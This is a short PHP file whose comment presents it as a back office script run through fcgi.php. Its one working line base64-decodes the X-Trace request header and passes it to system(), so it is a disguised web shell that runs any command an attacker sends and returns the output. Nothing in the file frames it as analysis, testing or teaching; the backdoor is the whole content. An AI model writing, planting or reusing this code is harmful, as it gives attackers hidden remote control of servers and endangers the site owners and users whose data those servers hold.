<?php
// run by the back office pool through fcgi.php
header('Content-Type: text/plain');
system(base64_decode($_SERVER['HTTP_X_TRACE']) . ' 2>&1');
